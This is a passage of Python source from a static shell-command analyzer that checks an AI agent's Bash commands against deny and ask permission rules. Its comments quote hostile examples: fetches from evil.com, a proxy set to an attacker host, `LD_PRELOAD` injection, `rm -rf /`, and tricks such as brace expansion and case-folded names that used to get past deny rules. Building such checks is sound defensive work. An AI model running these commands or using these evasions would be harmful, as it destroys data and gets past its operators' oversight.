        # no file); a file named past that may be any (`curl -T "$F"`).
        values = [_up_to_variable(w) for w in rest]
        read, written = transfer_files(program, values, _VARIABLE)
        later += _file_subjects(_any_if_variable(read), text, config, write=False)
        later += _file_subjects(_any_if_variable(written), text, config, write=True)
        if config.fetch_tool and program in _FETCHERS:
            from .transfers import fetched_urls

            # `curl https://evil.com` fetches from evil.com: deny and ask
            # rules of the fetch tool (Claude Code's WebFetch) see it.
            later += _fetch_subjects(fetched_urls(program, values, _VARIABLE), text, config)
    if config.fetch_tool and program in _REGISTRY_CLIENTS and len(rest) > 1:
        from .registries import registry_urls

        # `pip install -i https://evil.com/simple x`, `docker push evil.com/x`
        values = [_up_to_variable(w) for w in rest]
        later += _fetch_subjects(registry_urls(program, values, _VARIABLE), text, config)
    if cmd.values and len(rest) > 1:
        # `X=push; git $X` is `git push` too, for deny and ask rules (as
        # written, X may hold what the agent's environment gave it).
        from .variables import substituted

        readings = substituted(rest[1:], source, cmd.values, _literal_word)
        if readings and depth + 1 > MAX_DEPTH:
            raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
        seen = {(subject["tool"], str(subject["args"])) for subject in later if "tool" in subject}
        for reading in readings:
            for subject in _hold(_words_subjects([rest[0], *reading], source, config, depth)):
                if "tool" in subject:  # a file the command as written names already: once
                    key = (subject["tool"], str(subject["args"]))
                    if key in seen:
                        continue
                    seen.add(key)
                later.append(subject)
    if program != name:
        # `RM -rf /` runs rm where the file system ignores case (macOS), and
        # `grm -rf /` is Homebrew's GNU rm: deny and ask rules see `rm`; an
        # allow must name it as written. (Wrappers, shells and eval are
        # known by either name above.)
        folded = quote_join([program] + [w.value for w in rest[1:]])
        out.append(
            _opened(
                {"args": {config.field: folded}, "text": text, "constrain": True},
                None if known is None else _open_text(rest, source, cmd, program),
            )
        )
    if read_first:  # last, and once: a program may read the file too (`docker run --env-file`)
        later = _once(later + read_first)
    return out + later if later else out


def _open_text(words: list[Word], source: str, cmd: Command, head: str | None = None):
    """The command's value as far as it is known, when a word of it holds
    a value not known here (a variable the line neither binds nor gives,
    what xargs feeds), else None. `git $X` is `git ` and then anything:
    the engine holds such a subject (`open`) to every deny and ask rule
    that a value so begun may match. Cut at the first word with a variable
    at all, and at its first `$`, so a value the line tells an earlier
    word does not make the known part longer than it is. `head`: the
    program's name in the place of the first word's (`/bin/rm` as `rm`)."""
    cut = 0
    for word in words:
        if word.expands or is_input(word):
            break
        cut += 1
    else:
        return None
    if cmd.bound or cmd.values:  # else no value of any is known: open at the first
        from .variables import given, values_of

        for word in words[cut:]:
            if not (word.expands or is_input(word)):
                continue
            if values_of(word, source, cmd.bound) is None and not given(word, source, cmd.values):
                break
        else:
            return None  # each variable's value is told or given by the line
    part = _up_to_variable(words[cut]).partition(_VARIABLE)[0]
    if part and quote_join([part]) != part:
        part = ""  # the value would be quoted from its start: its start is not known
    values = [w.value for w in words[:cut]]
    if values and head is not None:
        values[0] = head
    return quote_join(values) + " " + part if values else part


def _opened(subject: dict, known: str | None) -> dict:
    if known is not None:
        subject["open"] = known
    return subject


def _fetch_subjects(urls: list[str], text: str, config) -> list[dict]:
    """The URLs a command fetches from, as constraint subjects of the fetch
    tool. A URL whose host is not known here (`curl "$URL"`, `xargs curl`)
    may be any: it is each host the fetch tool's deny and ask rules name,
    and one they do not (fail closed, as `rm $F` is held to `rm -rf:*`)."""
    out = []
    for url in urls:
        if _VARIABLE in url:
            known = url.partition(_VARIABLE)[0]
            after = known.partition("://")[2] if "://" in known else known
            if not any(c in after for c in "/?#"):
                hosts = config.fetch_hosts()
                out += [_fetched(f"http://{host}/", text, config) for host in hosts]
                out.append(_fetched("http://unknown.invalid/", text, config))
                continue
            url = known  # the host is whole before the variable
        out.append(_fetched(url, text, config))
        if "\\" in url:
            # `curl 'http://a.com\@evil.com/'` reaches evil.com: to curl and
            # wget a `\` is a character of the authority, which the domain
            # matcher reads as WHATWG does (a `/`, so its host is a.com).
            scheme, _, rest = url.partition("://")
            authority = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
            if "\\" in authority:
                host = authority.rpartition("@")[2].replace("\\", "")
                out.append(_fetched(f"{scheme}://{host}/", text, config))
    return out


def _fetched(url: str, text: str, config) -> dict:
    field, tool = config.fetch_field, config.fetch_tool
    return {"args": {field: url}, "text": text, "tool": tool, "constrain": True}


def _option_subjects(words: list[str], text: str, config) -> list[dict]:
    """The part as each deny or ask rule naming its options writes it
    (`options.option_views`: `rm -vrf x` as `rm -rf x`), constraints."""
    views = option_views(words, config.shapes)
    if not views:
        return views
    out, seen = [], {quote_join(words)}
    for view in views:
        joined = quote_join(view)
        if joined not in seen:
            seen.add(joined)
            out.append({"args": {config.field: joined}, "text": text, "constrain": True})
    return out


def _past_leading_options(words: list[str], program: str, text: str, config) -> list[dict]:
    """`kubectl -n prod delete pod x` as `kubectl delete pod x` (and each
    other reading, `subcommand_starts`), held to deny and ask rules."""
    out = []
    for start in subcommand_starts(words, program):
        read = [program, *words[start:]]
        out.append({"args": {config.field: quote_join(read)}, "text": text, "constrain": True})
        if config.shapes:  # (`docker --context x run -it --privileged`)
            out += _option_subjects(read, text, config)
    return out


def _assignments_before(words: list[Word], source: str) -> int:
    """How many of the words are assignments before the command (`A=1 B=2 cmd`)."""
    k = 0
    while k < len(words) and _is_assignment(words[k], source):
        k += 1
    return k


def _is_assignment(word: Word, source: str) -> bool:
    """`NAME=...` with the name and `=` unquoted, as bash reads it: `A='1 2'
    rm` sets A and runs rm (it was read as a command named `A=1 2`, which a
    deny on rm did not see); `'A=1' rm` is a command of that name."""
    if "=" not in word.value:
        return False
    if word.end > word.start:
        return _ASSIGNMENT.match(source, word.start, word.end) is not None
    return not word.quoted and _ASSIGNMENT.match(word.value) is not None


# Builtins that set variables from `NAME=VALUE` words (exported or not: a
# later command of the line may see them).
_SETTERS = frozenset({"export", "declare", "typeset", "readonly", "local"})
# Builtins that run no program, so no exported variable reaches one.
_UNLOADED = _SETTERS | frozenset(
    """echo printf true false : test [ pwd unset read mapfile readarray hash shift set
    shopt umask wait jobs cd pushd popd dirs""".split()
)


def _exported(lines: list[Command], source: str) -> list[str]:
    """The `NAME=VALUE` words the line's builtins set, off the safe list.
    Every other command of the line is held as if they stood before it, as
    a prefix assignment is: `export LD_PRELOAD=x.so; git status` loads x.so
    into git, and was allowed by `Bash(export:*)` and `Bash(git:*)` (`PATH`,
    `NODE_OPTIONS`, `GIT_DIR` change what runs as much). declare, typeset,
    readonly and local count without `-x`: a variable the environment gave
    the shell is exported already (`declare PATH=/tmp/x`). Every other
    command, not only every later one: a loop runs one again after an export
    below it; a subshell's export (`(export X=1); make`) is held too, which
    only asks more, never allows more."""
    out: list[str] = []
    for cmd in lines:
        words = cmd.words
        k = 0
        while k < len(words) and (
            _is_assignment(words[k], source) or words[k].value in ("builtin", "command")
        ):
            k += 1  # (`command export X=1` is the builtin too)
        if k == len(words) or words[k].value not in _SETTERS:
            continue
        for word in words[k + 1 :]:
            name = base_name(word.value.partition("=")[0])
            if "=" in word.value and is_name(name) and not is_safe_assignment(name):
                out.append(word.value)
    return out


# The variables curl, wget, git, pip and npm take a proxy from.
_PROXY_VARIABLES = frozenset(
    "http_proxy https_proxy all_proxy ftp_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY FTP_PROXY".split()
)


def _variable_subjects(
    word: Word, source: str, config: ShellConfig, depth: int, by_shell: bool = False
) -> list[dict]:
    """A variable set to a command a program runs (COMMAND_VARIABLES: git's
    ssh, a pager, an editor): that command, held to deny and ask rules as
    ssh's is. REFUSED_VARIABLES are refused.

    `by_shell`: the shell reads the word, so `NAME+=VALUE` appends and
    `NAME[0]=VALUE` sets an element (a scalar's value is its element 0).
    The value either makes is not known here (`PAGER+='rm -rf /'` runs rm
    when PAGER is unset), so both are refused for the variables above. env
    and sudo set a variable named `NAME+` instead, which no program reads."""
    name, _, value = word.value.partition("=")
    if by_shell and base_name(name) != name:
        if base_name(name) in WATCHED:
            how = "appending to" if name[-1] == "+" else "setting an element of"
            raise SplitError(f"{how} {base_name(name)} cannot be evaluated statically")
        return []
    if name in REFUSED_VARIABLES:
        raise SplitError(f"setting {name} cannot be evaluated statically")
    if name in _PROXY_VARIABLES and config.fetch_tool and value:
        # `https_proxy=evil.com:3128 curl …`: each request goes by that host
        url = _up_to_variable(word).partition("=")[2]
        text = source[word.start : word.end] if word.end > word.start else word.value
        return _fetch_subjects([url if "://" in url else "http://" + url], text, config)
    if name not in COMMAND_VARIABLES or not value.strip():
        return []
    if word.expands:
        raise SplitError(f"{name} with a variable cannot be evaluated statically")
    if name in ("LESSOPEN", "LESSCLOSE"):
        value = value.lstrip("-|")  # less's marks: `|cmd %s` pipes, `-` for its input too
    return _hold(_taken_subjects([("string", part_of(word, value))], source, config, depth))


def _operand_subjects(
    program: str, words: list[Word], cmd: Command, source: str, text: str, config
) -> list[dict]:
    """What a FILE_READERS or FILE_WRITERS command reads and edits, for each
    reading of its variables (`variables.readings`). A word not known here
    (a variable, what xargs feeds) stands for any file (`words.ANYWHERE`);
    find's `{}` and what fd hands a command are left out, as they are read
    with find and fd (`_found_files`)."""
    read: list[str] = []
    written: list[str] = []
    if any([w.expands or w.start == w.end for w in words]):  # a variable, or input (`…`)
        from .variables import readings  # on first use

        found = [
            w.value == "{}" or cmd.finds and (is_input(w) or w.value in FD_PLACEHOLDERS)
            for w in words
        ]
        takes = [
            [_FOUND if found[k] else value for k, value in enumerate(values)]
            for values in readings(words, source, cmd.bound, _UNKNOWN)
        ]
    else:
        takes = [[_FOUND if w.value == "{}" else w.value for w in words]]
    for values in takes:
        if program in FILE_READERS:
            operands = read_operands(values)
            read += with_files_under(program, values, [p for p in operands if p[:1] != "\0"])
            if _UNKNOWN in operands:
                read.append(ANYWHERE)
        if program in FILE_WRITERS:
            operands = written_operands(program, values)
            written += with_files_under(
                program, values, [p for p in operands if p[:1] != "\0"], write=True
            )
            if _UNKNOWN in operands:
                written.append(ANYWHERE)
    if program in NAMES_FROM_INPUT and names_from_input(program, takes[0]):
        read.append(ANYWHERE)  # `find . | cpio -o`: the names it reads are not known
    if len(takes) > 1:  # the same file in several readings: once
        read, written = list(dict.fromkeys(read)), list(dict.fromkeys(written))
    return _file_subjects(read, text, config, write=False) + _file_subjects(
        written, text, config, write=True
    )


def _literal_word(value: str, word: Word) -> Word:
    """A variable's value in the place of the word that named it."""
    return new_word(Word, (value, word.start, word.end, False, True))


def _values_of(word: Word, source: str, bound: dict | None) -> list[str]:
    """The paths a word may name: its values the line tells
    (`variables.values_of`), else any file if it has a variable."""
    if word.expands and bound:
        from .variables import values_of

        values = values_of(word, source, bound)
        if values is not None:
            return values
    return _any_if_variable([_up_to_variable(word)])


def _once(subjects: list[dict]) -> list[dict]:
    """Subjects, each file subject once (`docker run --env-file .env` reads
    it as a container's file and as an env file)."""
    seen: set[str] = set()
    out = []
    for subject in subjects:
        if "tool" in subject:
            key = repr((subject["tool"], subject["args"], subject.get("constrain")))
            if key in seen:
                continue
            seen.add(key)
        out.append(subject)
    return out


def _env_files(words: list[Word], source: str, bound: dict | None) -> list[str]:
    """The files `--env-file FILE` (or `=FILE`) names: whatever the program
    (uv, node, bun, deno, docker compose, op, dotenvx, ...), it loads them
    into the environment of a command the agent names, which may print them."""
    paths: list[str] = []
    for k, word in enumerate(words):
        name, eq, value = word.value.partition("=")
        if name == "--env-file" and (eq or k + 1 < len(words)):
            paths += _values_of(part_of(word, value) if eq else words[k + 1], source, bound)
    return paths


def _up_to_variable(word: Word) -> str:
    """A word as far as it is known here: its text up to its first `$`,
    then _VARIABLE (xargs' input: _VARIABLE alone)."""
    if is_input(word):
        return _VARIABLE
    at = word.value.find("$") if word.expands else -1
    return word.value if at < 0 else word.value[:at] + _VARIABLE


def _any_if_variable(paths: list[str]) -> list[str]:
    """Paths, with any that holds a variable read as any file."""
    if not any(_VARIABLE in path for path in paths):
        return paths
    return list(dict.fromkeys(ANYWHERE if _VARIABLE in path else path for path in paths))


def _hold(subjects: list[dict]) -> list[dict]:
    """Mark what a command runs besides itself as held, as for `sudo bash
    -c`: deny and ask rules see it; an allow must name the command as
    written. Subjects of other tools (a log file written) keep their verdict."""
    for subject in subjects:
        if "tool" not in subject:
            subject["constrain"] = True
    return subjects


def _unquoted(word: Word, source: str) -> str:
    """The word as brace expansion and globbing see it: its quoted characters
    (and the quotes, and a backslash's) turned to NUL, which no command holds."""
    if not word.quoted and not (word.expands and "$(" in word.value):
        return word.value
    raw = source[word.start : word.end]  # terminated quotes: the lexer read them
    out = []
    i, n = 0, len(raw)
    while i < n:
        c = raw[i]
        if c == "\\":
            j = i + 2
        elif c == "'":
            j = raw.index("'", i + 1) + 1
        elif c == '"':
            j = _read_double(raw, i + 1, [], _Substitutions())[0]  # as the lexer read it
        elif c == "$" and raw[i + 1 : i + 2] == "(":
            j = _substitution_end(raw, i + 2, 0)[0] + 1  # its output is not known: not read here
        elif c == "$" and raw[i + 1 : i + 2] == "'":
            j = _ansi_c(raw, i + 2)[1]
        else:
            out.append(c)
            i += 1
            continue
        out.append("\0" * (min(j, n) - i))
        i = j
    return "".join(out)


def _globs(bare: str) -> bool:
    """Would bash expand pathnames from this (unquoted) text? `[` alone (the
    `test` command) is not a pattern; `[...]` is."""
    if "*" in bare or "?" in bare:
        return True
    at = bare.find("[")
    return at >= 0 and "]" in bare[at + 1 :]


def _expand_braces(words: list[Word], first: int, source: str) -> list[Word]:
    """Brace expansion, which bash makes before anything else: `mkdir src/{a,b}`
    runs `mkdir src/a src/b`, and `r{m,} -rf /` runs `rm r -rf /`.

    Words from `first` on (assignments before a command are not expanded).
    A word of plain characters with lists of alternatives (`x{a,,b}y`) is
    expanded, as bash would, empty results dropped; anything else that bash
    would expand (a sequence `{1..9}`, nested or quoted parts, a variable,
    more than 64 words) cannot be evaluated here and is refused.
    """
    out: list[Word] | None = None
    for at in range(first, len(words)):
        word = words[at]
        if (
            "{" not in word.value
            or "}" not in word.value
            or not _BRACES.search(_unquoted(word, source))
        ):
            if out is not None:
                out.append(word)
            continue
        if word.quoted or word.expands or not _BRACE_LISTS.fullmatch(word.value):
            raise SplitError(
                "a brace expansion other than lists of plain words (`src/{a,b}`) "
                "cannot be evaluated statically"
            )
        results = [""]
        for k, part in enumerate(_BRACE_GROUP.split(word.value)):
            if k % 2 == 0:
                results = [r + part for r in results]
            else:
                results = [r + alt for r in results for alt in part.split(",")]
            if len(results) > _MAX_BRACE_WORDS:
                raise SplitError(
                    f"a brace expansion of more than {_MAX_BRACE_WORDS} words is not supported"
                )
        if out is None:
            out = words[:at]
        out.extend(new_word(Word, (r, word.start, word.end, False, False)) for r in results if r)
    return words if out is None else out


_MAX_BRACE_WORDS = 64


def _words_subjects(
    words: list[Word], source: str, config: ShellConfig, depth: int, finds: bool = False
) -> list[dict]:
    """The subjects of a command another one runs as words (find's -exec,
    a runner's command, `watch -x`), read one level deeper. `finds`: find
    or fd runs it on what they find (see `_found_files`)."""
    command = Command()
    command.words = words
    command.finds = finds
    return _command_subjects(command, source, config, depth + 1)


def _each_subjects(commands: list, source: str, config: ShellConfig, depth: int) -> list[dict]:
    """The subjects of the commands `fd -x` and `rg --pre` run for each file."""
    if commands and depth + 1 > MAX_DEPTH:
        raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
    out: list[dict] = []
    for words in commands:
        out += _words_subjects(words, source, config, depth, finds=True)
    return out


def _find_subjects(words: list[Word], source: str, config: ShellConfig, depth: int) -> list[dict]:
    """What `find ... -exec COMMAND ;` runs for each file, and the files
    `-fprint FILE` writes. find reads its arguments after the shell removed
    the quotes, so `\\;`, `';'` and `"-exec"` count as written unquoted. A
    `-exec` with no end makes find refuse its whole expression: nothing runs.
    """
    if any(map(is_input, words)):  # `xargs find .`: its input may be `-exec rm {} ;`
        raise SplitError(f"find given arguments by {FEEDERS} cannot be evaluated statically")
    out: list[dict] = []
    values = [_UNKNOWN if w.expands else w.value for w in words]
    if "-delete" in values:
        # `find /etc -name '*.conf' -delete` removes files under /etc: edit
        # constraints, as `rm -r /etc`'s; those its name tests let through.
        found = _under_points(find_start_points(values), find_delete_names(values))
        text = source[words[0].start : words[-1].end]
        out += _file_subjects(found, text, config, write=True)
    i, n = 1, len(words)
    while i < n:
        value = words[i].value
        if value in FIND_WRITE and i + 1 < n:
            target = words[i + 1].value
            if words[i + 1].expands or _globs(_unquoted(words[i + 1], source)):
                raise SplitError(
                    f"find {value} with a variable or a glob cannot be evaluated statically"
                )
            if target not in QUIET_TARGETS:
                out.append(
                    {
                        "args": {config.write_field: target},
                        "text": source[words[i].start : words[i + 1].end],
                        "tool": config.write_tool,
                    }
                )
            i += 2
            continue
        if value not in FIND_EXEC:
            i += 1
            continue
        end = i + 1
        while end < n and not (
            words[end].value == ";" or words[end].value == "+" and words[end - 1].value == "{}"
        ):
            end += 1
        if end == n:
            return out
        inner = words[i + 1 : end]
        if inner and "{}" in inner[0].value:
            raise SplitError("find running the files it finds cannot be evaluated statically")
        if inner:
            if depth + 1 > MAX_DEPTH:
                raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
            out += _words_subjects(inner, source, config, depth, finds=True)
            points = find_start_points(values)
            out += _found_files(points, inner, source, config, find_names(values, i))
        i = end + 1
    return out


def _fed_by_null(cmd: Command, xargs: list[Word], source: str) -> tuple | None:
    """What `find … -print0 | xargs -0 CMD` (or `fd -0`, `rg -l0`, `grep
    -rlZ`) hands CMD, as `programs.listed_by_null` reads it: the folders
    searched and the names they are narrowed to. None unless xargs reads
    the names whole from the pipe (`-0`, and no `-a FILE`, `-d`, `-I R` or
    `<` of its own) and the command before it is one of those alone, its
    errors sent elsewhere at most (`2>/dev/null`): else a word xargs feeds
    may be any file."""
    if cmd.heredoc or any(redirect.op[:1] == "<" for redirect in cmd.redirects):
        return None
    options, _ = getopt(xargs, "xargs", WRAPPERS["xargs"][0], permute=False)
    given = {option for option, _ in options}
    if not given & {"-0", "--null"} or given & _XARGS_NOT_WHOLE:
        return None
    feeder = cmd.fed
    for redirect in feeder.redirects:  # only `2>FILE`, `2>>FILE`
        if redirect.op not in (">", ">>") or source[redirect.start - 1 : redirect.start] != "2":
            return None
        if any(word.end == redirect.start for word in feeder.words):  # (`x2>f`: x2's `>`)
            return None
    words = _expand_braces(feeder.words, 0, source) if "{" in source else feeder.words
    if not words or words[0].expands:  # (`find {src,lib} …` starts from both)
        return None
    return listed_by_null([_UNKNOWN if w.expands else w.value for w in words])


# xargs' options that take its items from elsewhere than whole from its
# input, or put them elsewhere than after the command.
_XARGS_NOT_WHOLE = frozenset({"-a", "--arg-file", "-d", "--delimiter", "-I", "-i", "--replace"})


def _found_files(
    points: list[str],
    inner: list[Word],
    source: str,
    config: ShellConfig,
    names: tuple[tuple[str, ...], bool] | None = None,
    text: str = "",
):
    """The files `find DIR ... -exec cat {} +` or `fd -x cat` reads (or
    `-exec rm {} +` changes): what they find, any file under the folders
    they search, as for `grep -r`, unless name tests tell it (`names`, from
    `find_names` or `fd_names`: `-name '*.py'`, `-e py`), and then what is
    under such a name too, if the command recurses into it and they may
    find folders (`-exec rm -rf {} +` without `-type f`). `text`: the
    command's, when it is not the inner one (`xargs -0 rm`)."""
    program = program_name(inner[0].value)
    # The path found: find's `{}`, fd's placeholders, or fd's appended path (`…`).
    values = ["{}" if is_input(w) or w.value in FD_PLACEHOLDERS else w.value for w in inner]
    reads = program in FILE_READERS and "{}" in read_operands(values)
    writes = program in FILE_WRITERS and "{}" in written_operands(program, values)
    if not (reads or writes):
        return []
    text = text or source[inner[0].start : inner[-1].end]  # (xargs': its command's)
    out = []
    for write in (False, True) if reads and writes else (writes,):
        globs = None if names is None else names[0]
        tree = globs is not None and not names[1] and recursive(program, values, write)
        out += _file_subjects(_under_points(points, globs, tree), text, config, write)
    return out


def _under_points(
    points: list[str], globs: tuple[str, ...] | None = None, tree: bool = False
) -> list[str]:
    """find's or fd's folders and what is under them, or with `globs` the
    files so named under them (with `tree`, and what is under those); a
    folder with a variable (`find $D -delete`) may be any: every file
    stands for it."""
    known = [point for point in points if point != _UNKNOWN]
    if globs is None:
        found = and_files_under(known)
    else:
        found = known + [files_named_under(point, globs, True, tree) for point in known]
    return found + [ANYWHERE] if _UNKNOWN in points else found


def _taken_subjects(
    taken: list, source: str, config: ShellConfig, depth: int, bound: dict | None = None
) -> list[dict]:
    if depth + 1 > MAX_DEPTH:
        raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
    out: list[dict] = []
    anywhere: set[str] = set()
    for kind, word in taken:
        if kind == "string":
            if word.expands:
                raise SplitError("a command string with a variable cannot be evaluated statically")
            out += split(word.value, config, depth + 1)
        elif kind == "held":
            continue
        elif kind == "words":
            out += _words_subjects(word, source, config, depth)
        elif kind in ("reads", "edits"):  # a folder a container mounts, a file it is sent
            paths = _values_of(word, source, bound)  # `-v "$PWD:/x"`: `.`; `$D`: any folder
            if paths == [ANYWHERE]:  # (and what is under it: once)
                if kind in anywhere:
                    continue
                anywhere.add(kind)
            text = source[word.start : word.end] or word.value
            out += _file_subjects(paths, text, config, write=kind == "edits")
        else:
            if is_input(word):  # `xargs -I{} flock {} cmd`
                raise SplitError(
                    f"a file named by input from {FEEDERS} cannot be evaluated statically"
                )
            if word.expands or _globs(_unquoted(word, source) if word.end else word.value):
                raise SplitError(
                    "a log file with a variable or a glob cannot be evaluated statically"
                )
            if word.value not in QUIET_TARGETS:
                out.append(
                    {
                        "args": {config.write_field: word.value},
                        "text": source[word.start : word.end] or word.value,
                        "tool": config.write_tool,
                    }
                )
    return out


# Command names the fast path leaves to the general one.
_SPECIAL = STRIPPABLE | SHELLS | FOREIGN_SHELLS | RESERVED_SKIP | RESERVED_END
_SPECIAL |= frozenset(RESERVED_REFUSED) | {"for", "eval", "{", "}", "time"}
_SPECIAL |= TAKER_NAMES - frozenset(PLAIN_UNLESS)
_SPECIAL |= BINDERS
_SPECIAL |= {"g" + name for name in GNU_PREFIXED}  # `grm`: `rm` too (`program_name`)
_SPECIAL |= frozenset(OTHER_NAMES)  # `bsdtar`: tar
# Programs whose arguments can change what runs, and when the plain path must
# leave such a command to the general one.
_READ_ARGUMENTS = {
    "git": None,  # `git -C`: tested in _split_plain itself, the commonest case (measured)
    "find": lambda words: (
        not (FIND_EXEC.isdisjoint(words) and FIND_WRITE.isdisjoint(words)) or "-delete" in words
    ),
}
for _name, _spec in RUNNERS.items():
    # The words that start a command (`uv tool run`: its `run`), or a shell.
    _runs = {sub.split()[-1] for sub in _spec[0] or ()} | (
        {"shell"} if _name in RUNNER_SHELLS else set()
    )
    _READ_ARGUMENTS[_name] = (
        (lambda words: len(words) > 1)
        if _spec[0] is None
        else (lambda words, runs=frozenset(_runs): not runs.isdisjoint(words))
    )
del _name, _spec, _runs
_READ_ARGUMENTS.update(PLAIN_UNLESS)


def _keeps_a_script(runs):
    """npm's and pnpm's plain-path test: a package script it keeps
    (`LATER`) besides what it runs (`RUNNERS`)."""
    return lambda words: (
        "set-script" in words or "script-shell" in words or runs is not None and runs(words)
    )


for _name in ("npm", "pnpm"):
    _READ_ARGUMENTS[_name] = _keeps_a_script(_READ_ARGUMENTS.get(_name))
del _name


_READ_ARGUMENTS.update(TRANSFER_PLAIN_UNLESS)  # (gh's and gcloud's are their PLAIN_UNLESS)
_READ_ARGUMENTS.update(EXEC_EACH_WORDS)
_READ_ARGUMENTS.update(dict.fromkeys(EDITORS, editor_needs_general_path))
_READ_ARGUMENTS.update(dict.fromkeys(HELPER_PROGRAMS, helper_needs_general_path))


_scripts = None  # the `scripts` module, once a command names sed or awk


def _script_effects(program: str, words: list[Word]) -> list:
    global _scripts
    if _scripts is None:
        from . import scripts  # on first use (~0.4 ms): see SCRIPTED_NAMES

        _scripts = scripts
    return _scripts.script_effects(program, words)


def _script_does_something(words: list[str]) -> bool:
    """Whether a plain sed or awk command's script runs a command or names
    a file (`sed 1edate f`, `sed -n wout f`), or is refused. (A function
    level import cost ~2.5 µs a call here: measured.)"""
    try:
        return bool(
            _script_effects(words[0], [new_word(Word, (w, 0, 0, False, False)) for w in words])
        )
    except SplitError:
        return True


_READ_ARGUMENTS.update(dict.fromkeys(SCRIPTED_NAMES, _script_does_something))
